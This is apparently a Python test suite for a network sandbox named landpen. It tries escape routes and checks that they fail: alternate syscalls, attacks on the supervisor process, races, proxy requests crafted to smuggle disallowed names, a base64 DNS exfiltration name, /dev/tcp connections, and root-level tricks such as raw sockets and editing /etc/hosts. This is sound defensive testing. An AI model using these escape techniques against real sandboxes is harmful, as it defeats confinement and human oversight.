#!/usr/bin/env python3
"""What an attacker would try in the pen, beyond leaks.py; prints TAP. Runs as root, in ./lab.

    escapes.py [--user root] [--filter REGEX] [--backend landlock|bwrap]

With probe-net's acts ($NET_ACTS): other ways to the same calls, landpen's own processes, races with the
gate, names and ports that are nearly allowed, addresses that no name may lead to; as an ordinary user.
As root, who can do more without landpen: what that may change. A denial is a triple wherever the act
works bare on this kernel. See pens.py.
"""
import os
import re
import signal
import socket
import subprocess
import sys
import time

sys.dont_write_bytecode = True

# pylint: disable=wrong-import-position
from pens import NO_PROXIES, Failure, StandIn, Suite, enter_lab, free_port, need, until

SUITE = Suite()
test = SUITE.test
AS_ROOT = "root" in sys.argv
OK = {"allowedDomains": ["ok.lab.test:80", "ok.lab.test:443"]}
SERVING = {**OK, "allowLocalBinding": True}


def user_test(what):
    """A test that root's privileges add nothing to: not repeated as root."""
    return (lambda function: function) if AS_ROOT else test(what)


def lab(name):
    return os.environ["LAB" + name]


def act(*words):
    return " ".join([os.environ["NET_ACTS"], *map(str, words)])


class Link:
    """What was seen on the link, or at the servers, since the last look."""

    def __init__(self, name="packets"):
        self.path, self.at = f"{lab('')}/{name}", 0
        self.look()

    def look(self):
        with open(self.path, encoding="utf-8", errors="replace") as file:
            file.seek(self.at)
            text = file.read()
            self.at = file.tell()
        return text

    def settle(self):
        """A moment for what is on its way; then what there was."""
        time.sleep(0.15)
        return self.look()

    def is_silent(self, tried=""):
        if text := self.settle():
            raise Failure(f"got out: {text[:500]}{tried}")


# ---- other ways to the same calls -----------------------------------------------------------------

# act, what it says in the pen, what it says bare on kernels that do not have it
WAYS = {
    "fast-open-high": (("fast-open-high", "{addr}", 80), "^EACCES", "EOPNOTSUPP"),
    "fast-open-many": (("send-many", "{addr}", 80, 0x20004000), "^EACCES", "EOPNOTSUPP"),
    "int80": (("connect-int80", "{addr}", 80), "Bad system call|^$", "ENOSYS|Segmentation fault|^$"),
    "x32": (("connect-x32", "{addr}", 80), "Bad system call|^$|ENOSYS", "ENOSYS"),
    "ring": (("connect-ring", "{addr}", 80), "^ENOSYS|^EPERM", "ENOSYS|EPERM"),
    "smc": (("upgrade", "{addr}", 80, "smc"), "^EACCES|^ENOENT|EOPNOTSUPP", "ENOENT"),
}
for _name, (_words, _denied, _absent) in WAYS.items():
    def _way(case, words=_words, denied=_denied, absent=_absent):
        line = act(*words).format(addr=lab("_ADDR"))
        link = Link()
        bare = case.bare(line)
        if bare.status == 0:
            until(lambda: " 80" in link.look(), "bare: a packet")
            link.settle()
        elif not re.search(absent, bare.text, re.MULTILINE):
            raise Failure(f"bare: {bare}")
        tried = case.pen("( " + line + " ) 2>&1", OK)
        if tried.status == 0:
            raise Failure(f"should fail: {tried}")
        tried.says(denied)
        link.is_silent(tried)

    if not AS_ROOT:
        SUITE.add("way-" + _name, "no other call connects", _way)


@user_test("a TCP socket that is not connected sends to nobody")
def send_unconnected(case):
    link = Link()
    case.pen(act("send-many", lab("_ADDR"), 80, 0x4000), OK).fails("EPIPE|ENOTCONN")
    link.is_silent()


@user_test("what stands for a UDP socket sends to nobody, not even on this machine")
def datagrams(case):
    path = case.out + "/log"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    server.bind(path)
    os.chmod(path, 0o666)
    server.setblocking(False)
    line = act("send-datagrams", lab("_ADDR"), 9, path)
    link = Link()
    case.bare(line)
    until(lambda: re.search("udp .* 9", link.look()), "bare: a packet")
    link.settle()
    tried = case.pen(line, OK)
    if tried.status == 0:
        raise Failure(f"was connected to a unix socket: {tried}")
    link.is_silent(tried)
    try:
        raise Failure(f"heard on this machine: {server.recv(99)!r}")
    except BlockingIOError:
        pass


@user_test("a connection that was undone is decided anew")
def reconnect(case):
    address = lab("_ADDR")
    link = Link()
    case.bare(act("reconnect", address, 80, address, 22000)).says("ECONNRESET|EPIPE|ok")
    until(lambda: "22000" in link.look(), "bare: a packet")
    link.settle()
    tried = case.pen(act("reconnect", address, 80, address, 22000), OK)
    if "22000" in link.settle():
        raise Failure(f"got out: {tried}")
    if tried.status == 0:
        raise Failure(f"something answered: {tried}")


for _when in ("early", "late"):
    def _source_route(case, when=_when):
        line = act("source-route", "203.0.113.1", 443, lab("_ADDR"), when)
        link = Link()
        if when == "early" and case.bare(line).status == 0:  # older kernels, or root
            until(lambda: "tcp" in link.look(), "bare: a packet")
            time.sleep(1)
            link.settle()
        tried = case.pen(line, OK).fails("EPERM")
        link.is_silent(tried)

    SUITE.add("source-route-" + _when, "a connection takes no way by another machine", _source_route)


@user_test("addresses of odd families and lengths lead nowhere")
def lengths(case):
    link = Link()
    case.pen(act("lengths", lab("_ADDR"), 22000), OK).says("^0 connected")
    link.is_silent()


# ---- landpen's own processes --------------------------------------------------------------------------


def descendants(pid):
    found, pids = [pid], []
    while found:
        parent = found.pop()
        try:
            with open(f"/proc/{parent}/task/{parent}/children", encoding="ascii") as file:
                children = [int(word) for word in file.read().split()]
        except FileNotFoundError:
            continue
        pids += children
        found += children
    return pids


def name_of(pid):
    try:
        with open(f"/proc/{pid}/comm", encoding="utf-8") as file:
            return file.read().strip()
    except (FileNotFoundError, ProcessLookupError):
        return ""


HELPERS = {"landpen-gate", "landpen-proxy", "landpen-resolve"}


def landpens_of(process):
    """The supervisor and its helpers."""
    def look():
        found = [pid for pid in descendants(process.pid) if name_of(pid) in HELPERS]
        return [process.pid, *found] if len(found) >= len(HELPERS) else None

    return until(look, "landpen's processes")


@test("nothing that one process can do to another works on landpen's")
def attack(case):
    victim = case.start("exec sleep 60")
    bare = case.bare(act("attack", victim.pid)).works("tried 1")
    for what in ("pidfd_getfd", "process_vm_readv|mem", "ptrace", "tgkill", "pidfd_send_signal", "kill"):
        bare.says(f"^({what}) ")
    process = case.start(f"""touch started
        until [ -e pids ]; do sleep 0.05; done
        {act('attack')} $(cat pids) >result 2>&1
        {NO_PROXIES} curl -sS -f -m 4 http://ok.lab.test/alive >alive 2>&1
        touch told; sleep 20""", OK)
    need("curl")
    until(lambda: case.read("started") is not None, "the command")
    pids = landpens_of(process)
    case.write("pids", " ".join(map(str, pids)))
    until(lambda: case.read("told") is not None, "the attack", 20)
    result = case.read("result")
    if result.strip() != f"tried {len(pids)}":
        raise Failure(f"{pids}: {result}")
    if "reached" not in case.read("alive"):
        raise Failure(f"landpen has been hurt: {case.read('alive')}")


def attempt_after(case, kill):
    need("curl")
    link = Link("seen")
    line = f"""{NO_PROXIES} touch started
        until [ -e go ]; do sleep 0.05; done
        curl -sS -f -m 3 http://ok.lab.test/after; exec 3<>/dev/tcp/{lab('_ADDR')}/22000
        python3 -c 'import socket; socket.socket().connect(("{lab('_ADDR')}", 22000))'"""
    # one that landpen waits for, and one that was left behind
    process = case.start(f"(setsid bash -c '{line.replace(chr(39), chr(39) + chr(92) + chr(39) * 2)}' &)\n"
                         + line, OK)
    until(lambda: case.read("started") is not None, "the command")
    pids = landpens_of(process)
    if kill:
        kill(pids)
    seen = []
    time.sleep(0.1)
    case.write("go", "")
    if not kill:
        process.wait(15)
        until(lambda: seen.append(link.look()) or "".join(seen).count("/after") == 2, "both requests")
        return
    time.sleep(1.5)
    if text := link.settle():
        raise Failure("got out: " + text)
    process.wait(15)


@user_test("who is confined, waited for or left behind, has the network while landpen lives")
def kill_none(case):
    attempt_after(case, None)


@test("who is confined stays so when landpen is killed")
def kill_supervisor(case):
    attempt_after(case, lambda pids: os.kill(pids[0], signal.SIGKILL))


@test("and when all its processes are killed at once")
def kill_all(case):
    def kill(pids):
        for pid in pids:
            os.kill(pid, signal.SIGKILL)

    attempt_after(case, kill)


# ---- races with the gate -----------------------------------------------------------------------------------


@test("a socket of somebody else's that is put in the place of one's own is not reached")
def race_file(case):
    server = StandIn(socket.AF_UNIX, case.path("victim"))
    SUITE.own(case.path("victim"))
    line = act("race-file", 150, "victim")
    case.bare(line).works("swapped")
    until(lambda: server.count, "bare: a connection")
    time.sleep(0.2)
    before = server.count
    tried = case.pen(line, SERVING).works("swapped")
    time.sleep(0.2)
    if server.count != before:
        raise Failure(f"{server.count - before} times reached: {tried}")


@user_test("an address that changes while bind looks at it is loopback or none")
def race_bind(case):
    for address in ("0.0.0.0", lab("_HOST_ADDR")):
        line = act("race-bind", 1000, address)
        # bare, a busy machine may not let the other thread run in time
        until(lambda: "wide 0" not in case.bare(line).works("wide").text, "a bind that changed")
        case.pen(line, SERVING).works(r"bound [1-9][0-9]* wide 0\n")


@user_test("a socket that loses its address while listen looks at it does not listen on all of them")
def race_listen(case):
    case.pen(act("race-listen", 400), SERVING).works(r"waiting [1-9].* wide 0\n")


SHARING = """exec python3 -c '
import socket
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
s.bind(("127.0.0.1", %d)); s.listen(64); open("sharing", "w")
while True: s.accept()[0].close(); open("count", "a").write("x")'"""


@user_test("a port that a server outside would share is not shared")
def share_port(case):
    port = free_port()
    case.start(SHARING % port)
    until(lambda: case.read("sharing") is not None, "the server")
    case.bare(act("share-port", port)).works("own [1-9].* other [1-9]")
    until(lambda: case.read("count"), "bare: a connection")
    time.sleep(0.2)
    before = case.read("count")
    case.pen(act("share-port", port), SERVING).says("does not listen: Address (already )?in use").says(
        "own 0 other 0 refused 64")
    time.sleep(0.2)
    if case.read("count") != before:
        raise Failure("the server outside was reached")
    case.pen(act("share-port", free_port()), SERVING).works("own 64 other 0 refused 0")


@user_test("nor when the server outside comes second")
def share_port_later(case):
    port = free_port()
    process = case.start(f"""exec python3 -c '
import socket, time, os
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
s.bind(("127.0.0.1", {port})); s.listen(64); open("listens", "w")
while not os.path.exists("go"): time.sleep(0.05)
refused = 0
for i in range(64):
    c = socket.socket()
    try: c.connect(("127.0.0.1", {port}))
    except PermissionError: refused += 1
open("told", "w").write(str(refused))'""", SERVING)
    until(lambda: case.read("listens") is not None, "the pen's server")
    case.start(SHARING % port)
    until(lambda: case.read("sharing") is not None, "the server")
    case.write("go", "")
    until(lambda: case.read("told"), "the attempts")
    if case.read("told") != "64" or case.read("count"):
        raise Failure(f"refused: {case.read('told')}, reached: {len(case.read('count') or '')}")
    process.kill()


# ---- names and ports that are nearly allowed --------------------------------------------------------------------

SECRET = "c2VjcmV0.dns-only.lab.test"
NEARLY = [SECRET, SECRET.upper() + ".", "ok.lab.test." + SECRET, "xok.lab.test", "lab.test",
          "ok.lab.test.dns-only.lab.test", SECRET + "%00.ok.lab.test", "ok.lab.test%2e" + SECRET,
          "ok.lab.test@" + SECRET, SECRET + "#ok.lab.test", SECRET + "?ok.lab.test"]


def talk(text, port=None):
    """Says text to the proxy, or to a port of an address that nobody has; prints what comes back."""
    where = f'("203.0.113.1", {port})' if port else '("127.0.0.1", int(os.environ["HTTP_PROXY"].split(":")[-1].strip("/")))'
    return f"""exec python3 -c '
import os, socket
s = socket.create_connection({where}, 3)
s.settimeout(4)
s.sendall(bytes.fromhex("{text.hex()}"))
try: print(s.recv(4096))
except OSError as e: print(e)'"""


def socks(name):
    name = name.encode()
    return b"\x05\x01\x00\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x01\xbb"


def server_hello(name):
    """A ClientHello that names a server."""
    name = name.encode()
    entry = b"\x00" + len(name).to_bytes(2, "big") + name
    entries = len(entry).to_bytes(2, "big") + entry
    extension = b"\x00\x00" + len(entries).to_bytes(2, "big") + entries
    body = (b"\x03\x03" + bytes(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" +
            len(extension).to_bytes(2, "big") + extension)
    hello = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + len(hello).to_bytes(2, "big") + hello


@user_test("the proxy looks up no name that is not allowed, however it is asked")
def proxy_names(case):
    link = Link()
    case.bare(f"getent ahosts {SECRET}").works(lab("_ADDR"))
    until(lambda: " 53" in link.look(), "bare: a query")
    link.settle()
    lines = []
    for name in NEARLY:
        for text in (f"CONNECT {name}:443 HTTP/1.1\r\nHost: ok.lab.test\r\n\r\n".encode(),
                     f"GET http://{name}/ HTTP/1.1\r\nHost: ok.lab.test\r\n\r\n".encode(),
                     f"CONNECT ok.lab.test:443@{name}:443 HTTP/1.1\r\n\r\n".encode(), socks(name)):
            lines.append(f"({talk(text)})")
    for name in (SECRET, "ok.lab.test." + SECRET):
        lines.append(f"({talk(server_hello(name), 443)})")
        lines.append(f"({talk(f'GET / HTTP/1.1{chr(13)}{chr(10)}Host: {name}{chr(13)}{chr(10) * 2}'.encode(), 80)})")
    tried = case.pen("\n".join(lines) + "\ntrue", OK).works()
    tried.keeps_quiet("HTTP/1.1 2|reached")
    link.is_silent(tried)


@user_test("a host that is allowed at one port is not at others, and the link is silent")
def ports(case):
    need("curl")
    link = Link()
    network = {"allowedDomains": ["ok.lab.test:443", "dns-only.lab.test:443"]}
    for host in ("ok.lab.test", "dns-only.lab.test"):
        case.bare(f"curl -sS -f -m 4 http://{host}:8080/").works("reached")
        link.settle()
        case.pen(f"{NO_PROXIES} curl -sS -f -m 4 http://{host}:8080/", network).fails("curl: ")
        case.pen(f"curl -sS -f -m 4 http://{host}:8080/", network).fails("403")
        case.pen(f"curl -sS -f -m 4 -p http://{host}:22000/", network).fails("403")
        # looking up a name that is allowed somewhere is all that may be seen
        if "tcp" in (text := link.settle()):
            raise Failure("got out: " + text)
        case.pen(f"curl -sS -f -m 4 http://{host}:8080/",
                 {"allowedDomains": [host + ":8080"]}).works("reached")
        link.settle()


@user_test("a stand-in's address that stands for nothing leads nowhere")
def stand_ins(case):
    link = Link()
    line = "\n".join(f"""(exec python3 -c '
import socket; socket.create_connection(("{address}", 443), 3)' 2>&1) && echo connected"""
                     for address in ("198.18.0.1", "198.18.77.77", "198.19.255.254", "198.19.255.255"))
    case.pen(line + "\ntrue", OK).works("Error").keeps_quiet("connected")
    link.is_silent()


# ---- addresses that no name may lead to ---------------------------------------------------------------------------

GUARDED = {
    "loop6": "loopback", "mapped": "loopback", "nat64": "loopback", "zero": "", "own6": "this host",
    "local6": "link-local", "cloud": "metadata", "cloud6": "metadata", "multi": "multicast",
}


@user_test("an allowed name does not lead to this machine, its neighbours or its cloud")
def guarded(case):
    need("curl")
    names = {name: words for name, words in GUARDED.items()
             if case.bare(f"getent ahosts {name}.lab.test").status == 0}
    if not names:
        raise Failure("the hosts file has none of the names")
    link = Link()
    for name, words in names.items():
        case.pen(f"curl -sS -m 4 -p -x $HTTP_PROXY --noproxy '' http://{name}.lab.test:22000/ 2>&1; "
                 f"curl -sS -m 4 -x $HTTP_PROXY --noproxy '' http://{name}.lab.test:22000/",
                 {"allowedDomains": [name + ".lab.test"]}).says(f"403(.|\n)*resolved to .*{words}")
    link.is_silent()


# ---- what root could do -------------------------------------------------------------------------------------------

ROOT = {
    "join": ("nsenter --net=/run/netns/{netns} curl -sS -f -m 3 http://127.0.0.1/", "reached"),
    "netns-exec": ("ip netns exec {netns} curl -sS -f -m 3 http://127.0.0.1/", "reached"),
    "address": ("ip addr add {addr}7/24 dev {link} && ip addr del {addr}7/24 dev {link} && echo done", "done"),
    "route": ("ip route add 198.51.100.0/24 dev {link} && ip route del 198.51.100.0/24 dev {link} && echo done",
              "done"),
    "packet": ("""python3 -c '
import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("{link}", 0))
s.send(bytes(12) + bytes([0x88, 0xb5]) + bytes(46))
print("done")'""", "done"),
    "raw": ("""python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
s.sendto(bytes(20), ("{addr}", 0))
print("done")'""", "done"),
    "mark": ("""python3 -c '
import socket
s = socket.socket(); s.setsockopt(1, 36, 7); print("done")'""", "done"),
    "repair": ("""python3 -c '
import socket
s = socket.socket(); s.setsockopt(6, 19, 1); print("done")'""", "done"),
    "transparent": ("""python3 -c '
import socket
s = socket.socket(); s.setsockopt(0, 19, 1); print("done")'""", "done"),
    "hosts": ("echo '{addr} evil.lab.test' >>/etc/hosts && echo done", "done"),
}
for _name, (_line, _words) in ROOT.items():
    def _root(case, line=_line, words=_words):
        need("nsenter", "ip", "curl")
        line = line.format(netns=lab("_NETNS"), addr=lab("_ADDR"), link=lab("_NETNS"))
        link = Link()
        case.bare(line).works(words)
        time.sleep(0.3)
        link.settle()
        tried = case.pen(f"( {line} )", OK)
        if tried.status == 0 or re.search(f"^{words}$", tried.text, re.MULTILINE):
            raise Failure(f"should fail: {tried}")
        link.is_silent(tried)

    if AS_ROOT:  # an ordinary user has none of these
        SUITE.add("root-" + _name, "root's ways to the network are closed", _root)


if __name__ == "__main__":
    enter_lab()
    SUITE.main(jobs=1)
